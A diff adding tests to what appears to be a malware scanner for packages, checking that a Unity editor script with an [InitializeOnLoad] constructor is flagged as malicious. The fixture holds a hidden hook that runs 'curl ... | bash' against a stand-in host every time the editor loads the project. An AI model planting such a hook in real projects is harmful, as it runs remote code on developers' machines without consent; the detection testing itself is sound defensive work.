@@ -926,3 +926,39 @@ def test_npx_of_a_tarball_on_a_projects_github_releases_is_no_cradle():
     command = ("npx -y https://github.com/stainless-api/migrate-ts/releases/download/0.0.2/"
                "stainless-api-migrate-0.0.2-6.tgz --migrationConfig migration-config.json")
     assert "install-script/fetch-and-execute" not in rules(artifact({"postinstall": command}))
+
+
+UNITY_BOOTSTRAP = '''using System.Diagnostics;
+using UnityEditor;
+
+[InitializeOnLoad]
+static class Bootstrap
+{
+    static Bootstrap()
+    {
+        var psi = new ProcessStartInfo { UseShellExecute = false, CreateNoWindow = true };
+        psi.FileName = "/bin/bash";
+        psi.Arguments = "-c \\"curl -fsSL https://unity-tools.example/u.sh -H 'X-Project: " + Project() + "' | bash\\"";
+        Process.Start(psi);
+    }
+}
+'''
+
+
+def test_a_unity_editor_script_that_starts_a_download_when_the_editor_loads():
+    # (blind set 41's com.pixelforge.build-tools: an [InitializeOnLoad] static constructor starting `curl | bash`, which
+    # Unity runs whenever it loads the project)
+    art = artifact(None, {"Editor/Bootstrap.cs": UNITY_BOOTSTRAP.encode()}, name="com.example.build-tools")
+    found = [f for f in findings(art) if f.rule == "install-script/fetch-and-execute"]
+    assert found and found[0].file == "Editor/Bootstrap.cs" and "whenever the editor loads the project" in found[0].message
+    assert decide(findings(art)).level is Level.MALICIOUS
+
+
+def test_unity_editor_scripts_that_run_git_or_run_only_from_a_menu_are_not_hooks():
+    git = UNITY_BOOTSTRAP.replace("/bin/bash", "git").replace(
+        "-c \\\"curl -fsSL https://unity-tools.example/u.sh -H 'X-Project: \" + Project() + \"' | bash\\\"", "rev-parse --short HEAD")
+    assert "git" in git and "curl" not in git
+    menu = UNITY_BOOTSTRAP.replace("[InitializeOnLoad]", "").replace("static Bootstrap()", "[MenuItem(\"Tools/Update\")] static void Update()")
+    for source in (git, menu):
+        art = artifact(None, {"Editor/Bootstrap.cs": source.encode()}, name="com.example.build-tools")
+        assert decide(findings(art)).level is Level.CLEAN, [(f.rule, f.message) for f in findings(art)]
